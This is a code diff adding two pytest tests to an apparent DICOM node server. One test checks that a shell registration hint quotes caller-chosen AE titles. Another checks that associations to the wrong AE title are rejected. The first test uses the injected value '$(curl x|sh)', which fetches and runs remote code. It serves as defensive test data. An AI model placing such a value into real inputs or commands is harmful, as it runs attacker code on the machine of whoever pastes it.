@@ -251,6 +251,32 @@ def test_unknown_calling_ae_is_rejected(node: Node, caplog: pytest.LogCaptureFix
     assert "dicomnode ae add" in caplog.text and "STRANGER" in caplog.text
 
 
+def test_the_registration_hint_quotes_a_calling_ae_title_for_the_shell(
+    node: Node, caplog: pytest.LogCaptureFixture
+) -> None:
+    """The caller chooses its AE title: pasted unquoted, `$(curl x|sh)` would run."""
+    caplog.set_level(logging.WARNING)
+    ae = AE(ae_title="$(curl x|sh)")
+    ae.add_requested_context("1.2.840.10008.1.1")
+    assert ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE").is_rejected
+    assert "--ae-title '$(curl x|sh)' --host" in caplog.text
+
+
+def test_a_caller_that_calls_another_ae_title_is_rejected_and_told(
+    node: Node, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A sender configured for another node (or a typo) must not file its studies here."""
+    caplog.set_level(logging.WARNING)
+    ae = AE(ae_title=SENDER)
+    ae.add_requested_context("1.2.840.10008.1.1")
+    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="OTHERNODE")
+    assert assoc.is_rejected
+    assert "it called AE 'OTHERNODE', not this node's 'DICOMNODE'" in caplog.text
+    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
+    assert assoc.is_established
+    assoc.release()
+
+
 def test_peer_added_at_run_time_is_accepted(node: Node) -> None:
     with node.db.session() as s:
         add_peer(s, PeerInfo("NEWMOD", "NEWMOD", "127.0.0.1", 104))
